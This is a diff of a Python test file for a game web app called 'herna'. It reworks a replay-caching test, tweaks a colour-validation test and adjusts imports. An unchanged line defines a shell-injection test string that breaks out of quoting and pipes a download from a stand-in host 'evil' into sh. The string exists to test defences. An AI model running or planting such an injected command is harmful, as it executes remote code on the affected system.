@@ -11,20 +11,18 @@ import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
-from typing import Any
 
 import pytest
 
 from herna.kernel.errors import BadRecord
-from herna.kernel.match import Match
 from herna.kernel.record import read
+from herna.web.chart import Chart, chart
 from herna.web.errors import plain
 from herna.web.guard import headers
 from herna.web.pages.newtable import HUES, seat_rows
 from herna.web.readers import Reader
 from herna.web.rows import Visitor
 from herna.web.store import Store
-from herna.web.tape import Tape
 from web.guests import Guest, Inn, apart
 
 EVIL = "'; curl evil|sh; echo '"
@@ -85,7 +83,7 @@ def test_a_salt_from_before_is_not_shown_as_a_command(inn: Inn) -> None:
 
 
 def test_a_colour_of_many_digits_is_no_colour(guest: Guest) -> None:
-    for hue in ("000", "9" * 4400, "٣"):
+    for hue in ("000", "000" + "9" * 4400, "٣"):
         assert guest.client.get("/new", params={"game": "harbours", "hue0": hue}).status_code == 200
         assert seat_rows("harbours", {"hue0": hue})[0].hue < HUES
 
@@ -218,17 +216,15 @@ def test_looks_at_replays_are_limited(tmp_path: Path) -> None:
 def test_a_replay_is_computed_once_and_aside(inn: Inn, monkeypatch: pytest.MonkeyPatch) -> None:
     guest = inn.guest()
     table = finished(guest)
-    made: list[str] = []
+    drawn: list[tuple[str, list[list[int]]]] = []
 
-    class Counted(Tape):
-        """Remembers in which thread a tape was made."""
+    def watched(scores: list[list[int]], at: int) -> Chart:
+        drawn.append((threading.current_thread().name, scores))
+        return chart(scores, at)
 
-        def __init__(self, match: Match[Any]) -> None:
-            made.append(threading.current_thread().name)
-            super().__init__(match)
-
-    monkeypatch.setattr("herna.web.tape.Tape", Counted)
+    monkeypatch.setattr("herna.web.pages.replay.chart", watched)
     with ThreadPoolExecutor(4) as pool:
         pages = list(pool.map(lambda at: inn.guest().get(f"/t/{table}/replay?at={at}"), range(4)))
     assert [page.status_code for page in pages] == [200] * 4
-    assert len(made) == 1 and made[0] != inn.thread.name
+    assert inn.thread.name not in {thread for thread, _scores in drawn}
+    assert len({id(scores) for _thread, scores in drawn}) == 1
